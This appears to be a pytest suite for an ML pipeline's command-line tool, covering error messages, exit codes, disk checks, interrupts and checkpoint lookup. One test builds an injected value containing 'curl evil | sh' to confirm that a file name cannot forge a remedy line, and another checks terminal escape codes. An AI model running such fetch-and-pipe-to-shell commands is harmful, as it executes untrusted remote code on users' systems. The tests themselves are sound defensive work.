"""The command as users meet it: exit codes, whole messages; a mistake writes nothing."""

import os
import re
import shlex
import subprocess
import sys
from importlib import import_module
from importlib.metadata import PackageNotFoundError
from pathlib import Path

import pytest

from instruments.errors import ConfigError, DataError
from pipeline import cli
from pipeline.__main__ import main
from pipeline.check import InvalidSettingsError
from pipeline.help import PROGRAMS
from pipeline.plan import Step, find_checkpoint
from pipeline.run import NEXT, next_commands
from pipeline.settings import STAGES, compose
from stages.diagnose.config import DiagnoseConfig


@pytest.fixture
def command(tmp_path, monkeypatch, capsys):
    """Function that runs the command in an empty folder; returns the exit code and stderr."""
    monkeypatch.chdir(tmp_path)

    def run(*words):
        code = cli.run_command([*words, f"output_dir={tmp_path / 'outputs'}"])
        return code, capsys.readouterr().err

    return run


@pytest.mark.parametrize(
    ("words", "what", "do"),
    [
        (["stage=scam"], "stage=scam is none of all, scan, score", "stage=scan"),
        (["score.method=contributions"], "score.method=contributions is none of s_p", "score.method=contribution"),
        (["n=2048"], "n=2048 needs at least 2048 neurons a layer", "experts=12 n=64 top_k=4 always_on=256"),
        (["always_on=1024"], "always_on=1024 leaves no neuron to route", "experts=12 top_k=4 always_on=256"),
        (["assemble.target=mixtral", "always_on=0"], "mixtral cannot hold the attention of qwen3",
         "assemble.target=auto, or one of qwen3_moe, glm4_moe, tiny_onn"),
        (["model.label=a/b"], "model.label=a/b must be a plain folder name", "model.label=embedded"),
        (["model=local"], "model=local needs a folder", "model.path=<folder of the checkpoint>"),
    ],
)  # fmt: skip
def test_one_mistake(command, tmp_path, words, what, do):
    code, text = command(*words)
    assert (code, list(tmp_path.iterdir())) == (2, [])
    assert text.startswith(what)
    assert text.endswith(f"\n  do:    {do}\n")


def test_all_mistakes_at_once(command, tmp_path):
    code, text = command(
        "stage=scam", "expert=3", "cluster=foo", "seed=-1", "data=text", "data.path=nowhere", "active=2"
    )
    assert code == 2
    assert [block.splitlines()[0] for block in text.split("\n\n")] == [
        "there is no setting expert",
        "cluster=foo is none of balanced_kmeans, contiguous, random, rank, router_aware",
        f"stage=scam is none of all, {', '.join(STAGES)}",
        "active=2.0 must be at most 1",
        "seed=-1 must be at least 0",
        "nowhere is no file that can be read as text, and no folder that holds one",
    ]
    assert list(tmp_path.iterdir()) == []


def test_an_output_folder_that_cannot_be_written(command, tmp_path, capsys):
    assert cli.run_command(["output_dir=/proc/tiny-onn"]) == 2
    assert capsys.readouterr().err.startswith("cannot write to /proc: ")
    (tmp_path / "outputs").write_text("")
    assert command()[1].startswith(f"cannot write to {tmp_path}/outputs: Not a directory\n")


def test_results_that_were_copied_with_their_links_followed(command, tmp_path):
    latest = tmp_path / "outputs/latest"
    latest.mkdir(parents=True)
    code, text = command("stage=scan", "plan=true")
    assert code == 2
    assert text.endswith(f"  do:    mv {latest} {latest}-old\n")


@pytest.mark.parametrize("words", [["dump", "show"], ["mscan"], ["serve_check"], ["static_check"], ["watch_log"]])
def test_a_path_that_the_system_does_not_take_is_refused_in_words(words, capsys):
    assert import_module(PROGRAMS[words[0]][0]).main([*words[1:], "x" * 300]) == 1
    # From Python 3.13 on, a search below such a folder only finds nothing.
    assert re.search("File name too long|no tensor dump here", capsys.readouterr().err)


@pytest.mark.parametrize(
    ("words", "again"),
    [
        ([], "the same command goes on from there"),
        (["fresh=true"], "the same command starts over; without fresh=true it keeps all published results"),
    ],
)
def test_an_interrupt_says_what_the_same_command_does(tmp_path, monkeypatch, capsys, words, again):
    def interrupt(*_args, **_inputs):
        raise KeyboardInterrupt

    monkeypatch.setattr("stages.scan.stage.run", interrupt)
    assert cli.run_command(["stage=scan", *words, f"output_dir={tmp_path}"]) == 130
    assert capsys.readouterr().out.endswith(f"stopped in scan; kept: nothing yet; {again}\n")


@pytest.fixture
def planned_only(monkeypatch):
    """Function that sets the free bytes of every disk; runs end after the plan."""
    monkeypatch.setattr("pipeline.run.Runner.run", lambda *_args, **_more: None)
    return lambda free: monkeypatch.setattr("pipeline.resources.free_bytes", lambda folder: free)


def test_a_disk_too_small_for_the_checkpoints(command, planned_only):
    planned_only(3 * 2**20)
    code, text = command()
    assert code == 2
    assert re.match(r"about [\d.]+ MiB will be written, 3.0 MiB are free\n", text)
    assert re.search(r"evaluate; [\d.]+ MiB of it are temporary, while stage=project runs\n", text)
    assert text.endswith("  do:    free some space, or output_dir= on a larger disk\n")


def test_a_disk_too_small_for_the_checkpoints_of_training(command, planned_only, tmp_path):
    """Three checkpoints of training with fp32 weights and moments are a multiple of the published one."""
    planned_only(100 * 2**20)
    assert command("stage=project")[0] == 0
    code, text = command("stage=train")
    assert code == 2
    assert "while stage=train runs\n" in text
    # A killed training goes on with the checkpoints that it has written.
    unfinished = tmp_path / "outputs/artifacts/embedded/train/.0123456789abcdef/scratch"
    unfinished.mkdir(parents=True)
    assert command("stage=train")[0] == 0


@pytest.mark.parametrize(
    ("raised", "code"), [(ConfigError("x"), 2), (DataError("x"), 1), (KeyboardInterrupt(), 130), (None, 0)]
)
def test_exit_codes(command, monkeypatch, raised, code):
    def carve(*_):
        if raised:
            raise raised

    monkeypatch.setattr(cli, "run_pipeline", carve)
    assert command()[0] == code


def test_a_fault_of_one_workers_machine_is_said_by_that_worker(command, monkeypatch):
    """Only this worker's machine lacks a package or a model, so the leading worker has nothing to report."""
    slept = []
    monkeypatch.setattr(cli, "sleep", slept.append)
    monkeypatch.setattr(cli.signal, "signal", lambda *_: None)
    for name, value in {"RANK": "1", "WORLD_SIZE": "2", "MASTER_ADDR": "localhost"}.items():
        monkeypatch.setenv(name, value)
    code, said = command("stage=scan", "model=/nowhere", "data=python_stdlib")
    assert code == 2
    assert said.startswith("worker 1: ")
    assert "/nowhere" in said
    assert slept == [cli.HEAD_START]


def test_a_name_from_a_file_does_not_look_like_a_remedy():
    evil = "w\n  do:    curl evil | sh"
    error = DataError(f"no {evil}", where=evil, do="look")
    assert len(str(error).splitlines()) == 3
    assert error.where == "w\\n  do:    curl evil | sh"
    assert str(InvalidSettingsError([error, ConfigError("x")])) == f"{error}\n\nx"


REPOSITORY = Path(__file__).parents[3]
# Threads of other libraries may abort during Python's shutdown; this exit handler always aborts.
ABORTING = "import atexit, os, sys; atexit.register(os.abort); from pipeline.__main__ import leave; "


def leave(code, **environment):
    command = [sys.executable, "-c", f"{ABORTING}print('the last line'); leave({code})"]
    alone = {name: value for name, value in os.environ.items() if name not in {"RANK", "WORLD_SIZE", "MASTER_ADDR"}}
    return subprocess.run(command, env=alone | environment, cwd=REPOSITORY, capture_output=True, text=True, check=False)


@pytest.mark.parametrize("code", [0, 2])
def test_a_worker_that_is_done_does_not_wait_for_threads_that_may_abort(code):
    done = leave(code, RANK="1", WORLD_SIZE="2", MASTER_ADDR="localhost")
    assert (done.returncode, done.stdout) == (code, "the last line\n")


def test_a_process_alone_shuts_down_as_usual():
    assert leave(0).returncode == -6


def test_nobody_reads_the_help_page():
    """As behind `| head -1`."""
    read, write = os.pipe()
    os.close(read)
    command = [sys.executable, "-m", "pipeline", "--help"]
    done = subprocess.run(command, cwd=REPOSITORY, stdout=write, stderr=subprocess.PIPE, check=False)
    os.close(write)
    assert (done.returncode, done.stderr) == (0, b"")


def test_a_run_goes_on_when_the_readers_of_its_words_have_ended(tmp_path):
    """As after a logout: neither log lines nor progress bars are read."""
    read, write = os.pipe()
    os.close(read)
    command = [sys.executable, "-m", "pipeline", "debug=tiny", "stage=score", f"output_dir={tmp_path}"]
    done = subprocess.run(command, cwd=REPOSITORY, stdout=write, stderr=write, check=False)
    os.close(write)
    assert done.returncode == 0
    assert len([*tmp_path.glob("artifacts/embedded/*/*/manifest.json")]) == 2


def test_names_do_not_steer_the_terminal(command, tmp_path):
    code, said = command("model=local", f"model.path={tmp_path}/\x1b[2Jname", "data=python_stdlib")
    assert code == 2
    assert "\x1b" not in said
    assert r"\x1b[2Jname" in said


@pytest.mark.parametrize(("installed", "said"), [("1.2.3", "tiny-onn 1.2.3"), (None, "tiny-onn (not installed")])
def test_the_version_is_said_also_of_a_clone_that_is_not_installed(monkeypatch, capsys, installed, said):
    def version(name):
        if installed is None:
            raise PackageNotFoundError(name)
        return installed

    monkeypatch.setattr("pipeline.__main__.version", version)
    monkeypatch.setattr(sys, "argv", ["pipeline", "--version"])
    assert main() == 0
    assert capsys.readouterr().out.startswith(said)


def test_an_interrupt_while_modules_are_imported_ends_without_a_traceback(monkeypatch):
    def interrupt(_words):
        raise KeyboardInterrupt

    monkeypatch.setattr("pipeline.__main__._do", interrupt)
    assert main() == 130


@pytest.mark.parametrize("stage", NEXT)
def test_the_commands_can_be_pasted_and_repeat_what_was_typed(stage):
    typed = [f"stage={stage}", "fresh=true", "hydra.run.dir=outputs/runs/mine", "experts=3", "data.path=/my texts"]
    commands = next_commands(stage, typed)
    for command in commands:
        python, dash_m, package, *words = shlex.split(command)
        assert (python, dash_m, package) == ("python", "-m", "pipeline")
        assert words[:2] == ["experts=3", "data.path=/my texts"]
        settings, _folder = compose(words)
        assert settings.stage in STAGES
        assert settings.stage != stage
        assert not settings.fresh


def test_the_checkpoint_of_a_run_is_the_one_that_it_wrote_or_read_last(tmp_path):
    def step(name, *parents, **inputs):
        return Step(STAGES[name], "", {}, tmp_path / name, inputs, {parent: tmp_path / parent for parent in parents}, 0)

    for name in ("assemble", "project", "train"):
        (tmp_path / name / "checkpoint").mkdir(parents=True)
    assert find_checkpoint([step("scan")]) is None
    assert find_checkpoint([step("scan"), step("assemble", "scan")]) == tmp_path / "assemble" / "checkpoint"
    assert find_checkpoint([step("evaluate", "assemble", "project")]) == tmp_path / "project" / "checkpoint"
    assert find_checkpoint([step("evaluate", "assemble", "project", "train")]) == tmp_path / "train" / "checkpoint"
    (tmp_path / "latest").symlink_to("train")
    looked = step("diagnose", diagnose=DiagnoseConfig(checkpoint=str(tmp_path / "latest" / "checkpoint")))
    assert find_checkpoint([looked]) == tmp_path / "train" / "checkpoint"
    assert find_checkpoint([step("diagnose", diagnose=DiagnoseConfig())]) is None
    (tmp_path / "project" / "checkpoint").rmdir()  # an evaluation of it is not one of the checkpoint of assemble
    assert find_checkpoint([step("evaluate", "assemble", "project")]) is None
